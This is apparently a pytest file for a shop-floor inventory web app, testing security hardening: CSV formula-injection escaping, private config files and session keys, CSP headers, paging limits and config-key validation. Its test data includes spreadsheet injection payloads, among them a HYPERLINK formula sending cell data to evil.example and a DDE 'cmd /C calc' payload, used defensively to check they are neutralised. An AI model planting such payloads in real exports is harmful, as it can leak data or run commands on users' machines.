"""Hardening (issue 13, "Also"): CSV injection, private config and session key, private catalogs,
browser security headers, paged list routes, unknown config keys, the one clock in the kiosk."""

from __future__ import annotations

import csv
import io
import os
import re
import stat
import tempfile
import tomllib
from dataclasses import dataclass, field
from datetime import timedelta
from decimal import Decimal
from pathlib import Path

import pytest
from click.testing import CliRunner

from floor.config import TABLES, ConfigError, load_config, parse_config
from floor.core.csvsafe import safe_cell
from floor.service.factory import create_app
from tests.conftest import make_config
from tests.core.workorders.helpers import scan
from tests.factories import load_small_shop
from tests.kiosk.helpers import api_scans, csrf_token

EVIL_NAME = '=HYPERLINK("http://evil.example/?x="&A1,"click")'


def _rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text.lstrip("\ufeff"))))


# -- CSV injection -------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("value", "written"),
    [
        ("=1+2", "'=1+2"),
        ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("-", "'-"),
        ("-3", "-3"),
        ("+4", "+4"),
        ("-12.50", "-12.50"),
        (-3, -3),
        (Decimal("-2.00"), Decimal("-2.00")),
        ("Oil filter", "Oil filter"),
        ("", ""),
        (None, None),
    ],
)
def test_csv_cell_rule(value, written):
    """GIVEN a cell value WHEN it goes into an export THEN formulas get a leading quote and plain numbers stay."""
    assert safe_cell(value) == written


def test_reorder_csv_neutralises_a_formula_name(db, client):
    """GIVEN a low part whose name is a HYPERLINK formula WHEN reorder.csv is fetched
    THEN the name starts with a quote and the quantities are plain numbers."""
    load_small_shop(
        db,
        {
            "parts": [
                {
                    "part_no": "EV-1",
                    "name": EVIL_NAME,
                    "unit_cost": "2.00",
                    "barcodes": "",
                    "core": "no",
                    "reorder_point": "5",
                    "reorder_qty": "10",
                }
            ]
        },
    )
    rows = _rows(client.get("/api/alerts/reorder.csv").get_data(as_text=True))
    row = next(r for r in rows if r["part_no"] == "EV-1")
    assert row["name"] == "'" + EVIL_NAME
    assert row["on_hand"] == "0" and row["suggested_qty"] == "10" and row["unit_cost"] == "2.00"


def test_costs_csv_neutralises_customer_and_vehicle(db, service, client):
    """GIVEN a job whose customer is '@SUM(1)' and vehicle '-1+1' with parts issued
    WHEN costs.csv is fetched THEN both are quoted, the job number and the cost are unchanged."""
    load_small_shop(
        db,
        {
            "workorders": [
                {"number": "2001", "vehicle": "-1+1", "customer": "@SUM(1)", "promised_at": "", "estimate_minutes": ""}
            ]
        },
    )
    assert all(r.ok for r in scan(service, "U:T001", "WO:2001", "Q:2", "P:OF-100"))
    from floor import clock

    today = clock.now().date().isoformat()
    rows = _rows(client.get(f"/api/workorders/costs.csv?from={today}&to={today}").get_data(as_text=True))
    row = next(r for r in rows if r["work_order"] == "2001")
    assert row["customer"] == "'@SUM(1)" and row["vehicle"] == "'-1+1"
    assert row["parts_cost"] == "17.00"


def test_variance_csv_neutralises_text_and_keeps_negative_variance(db, client):
    """GIVEN a count where OF-100 (renamed to a formula) is counted 3 against 4 on the books
    WHEN variance.csv is fetched THEN the name is quoted and the variance stays the number -1."""
    from floor.core.counts.plans import create_count

    oil = {"part_no": "OF-100", "name": "=1+1", "unit_cost": "8.50", "barcodes": "", "core": "no"}
    load_small_shop(db, {"parts": [{**oil, "reorder_point": "2", "reorder_qty": "10"}]})
    with db.writing() as s:
        count_id = create_count(s, "cycle", zone="B").id
    results = api_scans(client, "handheld-1", "U:S001", f"CNT:{count_id}", "L:B-02-01", "Q:3", "P:OF-100")
    assert all(r["ok"] for r in results), results
    rows = _rows(client.get(f"/api/counts/{count_id}/variance.csv").get_data(as_text=True))
    row = next(r for r in rows if r["part_no"] == "OF-100")
    assert row["name"] == "'=1+1" and row["variance"] == "-1" and row["value"].startswith("-8.5")


def test_packing_list_csv_neutralises_text_cells():
    """GIVEN a packing list whose supplier, reason and claim reference are formulas
    WHEN it is written as CSV THEN those cells are quoted and the quantities stay numbers."""
    from floor.core.returns.supplier import packing_csv

    line = {
        "line": 1,
        "kind": "return",
        "part_no": "OF-100",
        "name": "Oil filter",
        "qty": -2,
        "serial": "",
        "return_id": 7,
        "reason": "+SUM(1)",
        "work_order": "1001",
        "claim_ref": "\t=cmd",
    }
    rows = _rows(packing_csv({"id": 3, "supplier": "=Acme", "lines": [line]}))
    assert rows[0]["supplier"] == "'=Acme" and rows[0]["reason"] == "'+SUM(1)" and rows[0]["claim_ref"] == "'\t=cmd"
    assert rows[0]["qty"] == "-2" and rows[0]["part_no"] == "OF-100"


# -- floor init: private config with its own session key -------------------------------------------


@pytest.mark.clock
def test_floor_init_writes_a_private_config_with_a_session_key(tmp_path, monkeypatch):
    """GIVEN a loose umask WHEN `floor init` runs twice in two folders THEN each floor.toml is mode 0600
    and holds its own 64-hex [server] secret_key, which the app uses (so gunicorn workers share it)."""
    from floor.cli.main import main

    monkeypatch.chdir(tmp_path)
    old = os.umask(0o022)
    try:
        keys = []
        for name in ("a", "b"):
            res = CliRunner().invoke(main, ["init", "--instance", name])
            assert res.exit_code == 0, res.output
            path = tmp_path / name / "floor.toml"
            assert stat.S_IMODE(path.stat().st_mode) == 0o600
            key = tomllib.loads(path.read_text(encoding="utf-8"))["server"]["secret_key"]
            assert re.fullmatch(r"[0-9a-f]{64}", key)
            keys.append(key)
    finally:
        os.umask(old)
    assert keys[0] != keys[1]
    cfg = load_config(tmp_path / "a" / "floor.toml")
    from floor.db import Database

    db = Database.from_config(cfg)
    try:
        apps = [create_app(cfg, db, {"TESTING": True}) for _ in range(2)]
        assert apps[0].secret_key == apps[1].secret_key == keys[0]
    finally:
        db.dispose()


# -- compiled catalogs are private ----------------------------------------------------------------


def test_catalogs_are_compiled_into_a_private_unpredictable_folder():
    """GIVEN the kiosk starts WHEN its catalogs are compiled THEN they sit in a folder only this user can
    write, not under a fixed name in /tmp that another user could create first."""
    from floor.kiosk.i18n import compile_catalogs

    root = compile_catalogs()
    assert (root / "zh" / "LC_MESSAGES" / "messages.mo").exists()
    holder = root.parent
    assert holder != Path(tempfile.gettempdir())
    st = holder.stat()
    assert st.st_uid == os.getuid() and stat.S_IMODE(st.st_mode) == 0o700
    assert compile_catalogs() == root  # compiled once per process


# -- browser security headers -----------------------------------------------------------------------

KIOSK_PAGES = ["/kiosk/", "/kiosk/board", "/kiosk/alerts", "/kiosk/labels", "/kiosk/counter/counter-1", "/kiosk/admin/"]


@pytest.mark.parametrize("path", KIOSK_PAGES)
def test_kiosk_pages_send_security_headers_and_need_no_inline_code(shop, client, path):
    """GIVEN a kiosk page WHEN it is fetched THEN CSP allows only our own files (no inline, no eval),
    framing only by us, nosniff and a referrer policy; the page has no inline script or style to break."""
    res = client.get(path)
    assert res.status_code == 200, path
    csp = res.headers["Content-Security-Policy"]
    assert "default-src 'self'" in csp and "script-src 'self'" in csp and "frame-ancestors 'self'" in csp
    assert "unsafe-inline" not in csp and "unsafe-eval" not in csp
    assert res.headers["X-Content-Type-Options"] == "nosniff"
    assert res.headers["Referrer-Policy"] == "same-origin"
    html = res.get_data(as_text=True)
    assert " style=" not in html and "<style" not in html
    assert not re.search(r"<script(?![^>]*\ssrc=)", html), "inline script"
    assert not re.search(r"<[^>]*\son[a-z]+\s*=", html), "inline event handler"
    assert "js:" not in html


def test_live_fragments_carry_no_inline_styles(shop, client):
    """GIVEN the board's live fragment with stage bars WHEN htmx fetches it THEN bar sizes are data attributes."""
    html = client.get("/kiosk/board", headers={"HX-Request": "true", "HX-Target": "board-live"}).get_data(as_text=True)
    assert "data-flex=" in html and " style=" not in html


def test_printable_variance_page_styles_only_with_the_nonce(shop, client):
    """GIVEN the printable variance page (one inline <style>) WHEN fetched THEN the style carries the nonce
    the CSP names, and a second request gets another nonce."""
    from floor.core.counts.plans import create_count

    with shop.writing() as s:
        count_id = create_count(s, "cycle", zone="B").id
    nonces = []
    for _ in range(2):
        res = client.get(f"/api/counts/{count_id}/variance.html")
        nonce = re.search(r"'nonce-([^']+)'", res.headers["Content-Security-Policy"]).group(1)
        assert f'<style nonce="{nonce}">' in res.get_data(as_text=True)
        nonces.append(nonce)
    assert nonces[0] != nonces[1]


def test_api_answers_carry_nosniff(shop, client):
    """GIVEN any API answer WHEN read THEN it is marked nosniff and not frameable by others."""
    res = client.get("/api/workorders")
    assert res.headers["X-Content-Type-Options"] == "nosniff"
    assert "frame-ancestors 'self'" in res.headers["Content-Security-Policy"]


# -- paged list routes ----------------------------------------------------------------------------

LIST_ROUTES = [
    ("/api/workorders", "workorders"),
    ("/api/cores?status=all", "cores"),
    ("/api/counts", "counts"),
    ("/api/deliveries?status=all", "deliveries"),
    ("/api/returns", "returns"),
    ("/api/returns/log", "log"),
    ("/api/alerts/log", "events"),
]


@pytest.mark.parametrize(("route", "key"), LIST_ROUTES)
def test_list_route_refuses_a_bad_limit(shop, client, route, key):
    """GIVEN a list route WHEN limit is not a whole number from 1 to 1000 THEN 400 with an error naming it."""
    sep = "&" if "?" in route else "?"
    for bad in ["0", "-1", "abc", "1001", "²", "１２", "1.5", "9" * 30]:
        res = client.get(f"{route}{sep}limit={bad}")
        assert res.status_code == 400 and "'limit'" in res.get_json()["error"], (route, bad)


@pytest.mark.parametrize(("route", "key"), LIST_ROUTES)
def test_list_route_refuses_a_bad_offset_and_reports_its_page(shop, client, route, key):
    """GIVEN a list route WHEN offset is negative THEN 400; WHEN no page is asked THEN the default page is named."""
    sep = "&" if "?" in route else "?"
    assert client.get(f"{route}{sep}offset=-5").status_code == 400
    body = client.get(route).get_json()
    assert isinstance(body[key], list) and body["page"] == {"limit": 200, "offset": 0, "next_offset": None}


def test_workorders_page_through_every_job_once(shop, client):
    """GIVEN the open jobs WHEN read one per page THEN every job comes once, newest first, and the last page
    says there is no next one."""
    seen, offset = [], 0
    while offset is not None:
        body = client.get(f"/api/workorders?limit=1&offset={offset}").get_json()
        seen += [w["number"] for w in body["workorders"]]
        offset = body["page"]["next_offset"]
    assert seen == ["1002", "1001"]


def test_alert_log_pages_back_in_time(shop, service, client):
    """GIVEN two warning-line crossings WHEN the alert log is read one at a time THEN the pages, newest
    first, each newest last, put together give the whole log once; the last page has no next one."""
    texts = ["U:T001", "WO:1001", "Q:2", "P:ALT-300", "Q:3", "P:BP-400", "Q:9", "P:OF-100"]
    assert all(r.ok for r in scan(service, *texts))
    full = client.get("/api/alerts/log").get_json()["events"]
    assert len(full) == 2
    pages, offset = [], 0
    while offset is not None:
        body = client.get(f"/api/alerts/log?limit=1&offset={offset}").get_json()
        assert len(body["events"]) == 1
        pages.append(body["events"])
        offset = body["page"]["next_offset"]
    assert pages[0] == full[-1:] and len(pages) == 2
    assert [e for page in reversed(pages) for e in page] == full


# -- unknown config keys ----------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("data", "named", "nearest"),
    [
        ({"stations": [{"name": "c1", "require_bagde": False}]}, "require_bagde", "require_badge"),
        ({"sever": {"port": 8001}}, "sever", "server"),
        ({"server": {"secret": "x"}}, "secret", "secret_key"),
        ({"database": {"sqlite_sync": "FULL"}}, "sqlite_sync", "sqlite_synchronous"),
        ({"site": {"time_zone": "UTC"}}, "time_zone", "timezone"),
        ({"api": {"token": ["x"]}}, "token", "tokens"),
        ({"counts": {"recount_quantity": 2}}, "recount_quantity", "recount_qty"),
        ({"kiosk": {"langauge": "zh"}}, "langauge", "language"),
        ({"printers": [{"name": "p", "url": "tcp://h:9100", "timout": 2}]}, "timout", "timeout"),
        (
            {
                "stations": [{"name": "c1"}],
                "devices": [{"name": "d", "kind": "serial-scanner", "url": "x", "station": "c1", "baud": 9600}],
            },
            "baud",
            "baudrate",
        ),
    ],
)
def test_unknown_config_key_names_it_and_the_nearest(data, named, nearest):
    """GIVEN a config with a misspelt key or table WHEN it is read THEN the error names it and the nearest."""
    with pytest.raises(ConfigError) as exc:
        parse_config(data)
    assert repr(named) in str(exc.value) and repr(nearest) in str(exc.value)


def test_unknown_config_file_key_is_refused_on_load(tmp_path):
    """GIVEN a floor.toml with `require_bagde` WHEN floor loads it THEN it refuses and names the station."""
    path = tmp_path / "floor.toml"
    path.write_text('[[stations]]\nname = "counter-1"\nrequire_bagde = false\n', encoding="utf-8")
    with pytest.raises(ConfigError, match=r"\[\[stations\]\] #1 \(counter-1\): unknown key 'require_bagde'"):
        load_config(path)


def test_every_key_of_the_sample_config_is_known():
    """GIVEN the sample config with every commented key switched on WHEN it is read THEN nothing is unknown."""
    sample = (Path(__file__).parents[2] / "floor" / "cli" / "sample_config.toml").read_text(encoding="utf-8")
    on = re.sub(r"^# ?((?:\[|[a-z_]+ = ).*)$", r"\1", sample, flags=re.MULTILINE)
    on = on.replace('url = "postgresql+psycopg://floor@db-host/floor"\n', "")  # the alternative url
    data = tomllib.loads(on)
    assert data["devices"] and data["printers"] and data["server"]["secret_key"]
    parse_config(data)


def test_a_new_table_is_registered_by_its_dataclass(monkeypatch):
    """GIVEN a new [warranty] table registered as a dataclass (with a nested [warranty.claims] table), and
    a [sales] table with tills as tables by name WHEN a config uses their keys THEN they are accepted, and a typo is named."""

    @dataclass(frozen=True)
    class Claims:
        months: int = 12

    @dataclass(frozen=True)
    class Warranty:
        supplier_days: int = 30
        claims: Claims = field(default_factory=Claims, metadata={"table": Claims})

    monkeypatch.setitem(TABLES, "warranty", Warranty)
    parse_config({"warranty": {"supplier_days": 14, "claims": {"months": 6}}})
    with pytest.raises(ConfigError, match=r"\[warranty\]\.claims: unknown key 'monts'; did you mean 'months'"):
        parse_config({"warranty": {"claims": {"monts": 6}}})

    @dataclass(frozen=True)
    class Till:
        printer: str = ""
        role: str = "cashier"

    @dataclass(frozen=True)
    class Sales:
        tills: dict[str, Till] = field(default_factory=dict, metadata={"named_tables": Till})

    monkeypatch.setitem(TABLES, "sales", Sales)
    parse_config({"sales": {"tills": {"front-1": {"printer": "p", "role": "cashier"}}}})
    with pytest.raises(ConfigError, match=r"\[sales\]\.tills\.front-1: unknown key 'rol'; did you mean 'role'"):
        parse_config({"sales": {"tills": {"front-1": {"rol": "cashier"}}}})


# -- the one clock in the kiosk -----------------------------------------------------------------------


@pytest.mark.clock
def test_kiosk_supervisor_unlock_runs_on_the_one_clock(shop, client, pinned_clock):
    """GIVEN a supervisor unlocked a stocktake's variance WHEN the one clock moves 14 minutes THEN it is still
    shown; WHEN it moves past 15 minutes THEN it is locked again (the machine clock plays no part)."""
    from floor.core.counts.plans import create_count

    with shop.writing() as s:
        count_id = create_count(s, "cycle", zone="B").id
    token = csrf_token(client, f"/kiosk/stocktake/{count_id}")
    unlocked = client.post(
        f"/kiosk/stocktake/{count_id}/supervisor", data={"badge": "U:SUP1"}, headers={"X-CSRFToken": token}
    )
    assert 'id="variance-lines"' in unlocked.get_data(as_text=True)
    pinned_clock.advance(timedelta(minutes=14))
    assert 'id="variance-lines"' in client.get(f"/kiosk/stocktake/{count_id}").get_data(as_text=True)
    pinned_clock.advance(timedelta(minutes=2))
    assert 'id="variance-lines"' not in client.get(f"/kiosk/stocktake/{count_id}").get_data(as_text=True)


def test_test_config_parses(cfg):
    """GIVEN the standard test config WHEN read THEN every key in it is known (the check refuses nothing valid)."""
    assert make_config().stations.keys() == cfg.stations.keys()
